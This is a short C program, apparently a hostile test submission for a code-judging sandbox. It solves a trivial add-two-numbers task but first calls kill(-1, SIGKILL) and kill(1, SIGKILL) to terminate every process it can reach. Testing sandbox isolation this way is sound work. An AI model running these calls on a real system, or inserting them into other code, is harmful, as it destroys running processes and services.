#include <signal.h>
#include <stdio.h>
/* Tries to kill every process it can see, then answers normally. */
int main(void) {
    int a, b;
    scanf("%d %d", &a, &b);
    kill(-1, SIGKILL);
    kill(1, SIGKILL);
    printf("%d\n", a + b);
    return 0;
}
